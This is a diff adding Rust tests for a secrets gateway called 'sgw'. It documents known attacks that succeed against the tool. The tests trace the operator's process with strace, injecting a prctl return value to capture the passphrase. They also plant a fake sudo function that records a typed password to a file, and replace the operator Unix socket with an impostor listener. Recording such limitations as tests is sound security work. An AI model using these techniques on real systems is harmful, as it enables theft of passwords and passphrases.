@@ -1,10 +1,25 @@
 //! Not claimed: these attacks succeed, and SECURITY.md says so. When one fails, the table is wrong.
 
-use std::{fs, os::unix::fs::PermissionsExt, process::Command};
+use std::{
+    fs,
+    io::{Read, Write},
+    os::unix::{
+        fs::PermissionsExt,
+        net::{UnixListener, UnixStream},
+    },
+    process::Command,
+    rc::Rc,
+};
 
 use rustix::process::Signal;
+use serde_json::json;
 
-use crate::support::{PASSPHRASE, Pty, Running, Sgw, Sshd, eventually, processes_naming, signal};
+use super::copy;
+use crate::support::{
+    Live, PASSPHRASE, Person, Pty, Running, Sgw, Sshd, eventually,
+    frames::{JSON, frame, hello},
+    is_alive, processes_naming, signal, still_serves,
+};
 
 #[test]
 fn whoever_replaces_the_program_gets_the_passphrase() {
@@ -104,4 +119,111 @@ fn within_one_uid_a_token_is_a_label_that_others_can_wear() {
     sgw.by_text(&worn, ["exec", "web1", "--", "echo", "as ci"]).ok().prints("as ci\n");
     agent.signal(Signal::KILL);
     agent.ends();
+}
+
+#[test]
+fn whoever_traces_the_operators_start_reads_the_passphrase() {
+    if Command::new("strace").arg("-V").output().is_err() {
+        return eprintln!("left out: there is no strace");
+    }
+    let person = Rc::new(Person::ordinary());
+    let sgw = Sgw::of(&person);
+    sgw.init();
+    sgw.unlock();
+    let loot = sgw.path("operator/loot");
+    let plain = sgw.operator_command(["config", "list"]);
+    // A line in the shell's rc file is enough: who is there from the start keeps it from
+    // becoming undumpable.
+    let mut traced = Command::new("strace");
+    traced
+        .args(["-f", "-e", "trace=read,prctl", "-e", "inject=prctl:retval=0"])
+        .args(["-s", "400", "-o"])
+        .arg(&loot);
+    traced.arg(plain.get_program()).args(plain.get_args());
+    traced.env_clear().envs(plain.get_envs().filter_map(|(name, value)| Some((name, value?))));
+    sgw.run(person.runs(&mut traced)).ok();
+    assert!(fs::read_to_string(loot).unwrap().contains(PASSPHRASE));
+}
+
+#[test]
+fn what_a_person_types_to_a_program_on_the_target_is_its_accounts() {
+    let (sgw, sshd) = (Sgw::unlocked(), Sshd::start());
+    let s = sgw.session(&sshd);
+    let (loot, secret) = (sshd.directory().join("loot"), "typed-for-sudo-on-the-target");
+    // The agent has replaced what its person is going to start.
+    let fake = format!(
+        "sudo() {{ printf 'pass''word: '; stty -echo; read -r p; stty echo; echo $p >{}; }}",
+        loot.display()
+    );
+    sgw.agent(["input", &s, &fake]).ok();
+    let mut seat = Live::attach(&sgw, &s, Some(true));
+    seat.control_is("operator", true);
+    seat.types("sudo true\r");
+    seat.shows("password:");
+    seat.types(&format!("{secret}\r"));
+    eventually("it is typed", || fs::read_to_string(&loot).is_ok_and(|read| !read.is_empty()));
+    seat.says(&json!({"type": "return", "session": s, "message": null}));
+    let cat = format!("cat {}", loot.display());
+    sgw.agent(["exec", &s, "--", &cat]).ok().prints(&format!("{secret}\n"));
+}
+
+#[test]
+fn whoever_has_an_older_copy_and_its_passphrase_has_what_was_in_it() {
+    let sgw = Sgw::unlocked();
+    sgw.operator(["config", "set", "notify", "/bin/true"]).ok();
+    sgw.lock();
+    let older = sgw.path("older");
+    copy(&sgw.home(), &older);
+    sgw.unlock();
+    let another = "granite-lantern-otter-meadow-quartz-5512";
+    sgw.plant(another.as_bytes());
+    let file = sgw.write_private("another", another);
+    let file = file.to_str().unwrap();
+    sgw.operator(["vault", "passphrase", "--new-passphrase-file", file]).ok();
+    let old = sgw.passphrase_file();
+    let proof = ["--passphrase-file", old.to_str().unwrap(), "--i-am-the-operator"];
+    sgw.operator(["config", "list"]).fails(77, "operator.proof");
+    sgw.write_private("passphrase", another);
+    sgw.operator(["vault", "rotate"]).ok();
+    sgw.write_private("passphrase", PASSPHRASE);
+    sgw.agent(["lock"]).ok();
+    let elsewhere = |words: &[&str]| {
+        let mut command = sgw.command(words.iter().chain(&proof));
+        sgw.run(command.env("SGW_HOME", &older)).ok().stdout()
+    };
+    elsewhere(&["unlock"]);
+    assert!(elsewhere(&["config", "list", "--json"]).contains("/bin/true"));
+    elsewhere(&["lock"]);
+}
+
+#[test]
+fn whoever_takes_the_sockets_place_can_say_that_sgw_is_locked() {
+    // A lock takes no proof, so its answer is none. The next unlock tells that the daemon lives.
+    let (sgw, sshd) = (Sgw::unlocked(), Sshd::start());
+    let s = sgw.session(&sshd);
+    let daemon = sgw.daemon().unwrap();
+    let socket = sgw.find("operator.sock");
+    let welcome = {
+        let mut stream = UnixStream::connect(&socket).unwrap();
+        stream.write_all(&frame(JSON, 0, &hello(1))).unwrap();
+        let mut bytes = vec![0; 4096];
+        let length = stream.read(&mut bytes).unwrap();
+        bytes.truncate(length);
+        bytes
+    };
+    let real = sgw.path("real");
+    fs::rename(&socket, &real).unwrap();
+    let fake = UnixListener::bind(&socket).unwrap();
+    let answers = std::thread::spawn(move || {
+        let (mut stream, _) = fake.accept().unwrap();
+        let mut chunk = [0; 4096];
+        let _hello = stream.read(&mut chunk);
+        stream.write_all(&welcome).unwrap();
+        let _lock = stream.read(&mut chunk);
+    });
+    sgw.agent(["lock"]).ok();
+    answers.join().unwrap();
+    assert!(is_alive(daemon));
+    still_serves(&sgw, &s);
+    fs::rename(&real, &socket).unwrap();
 }
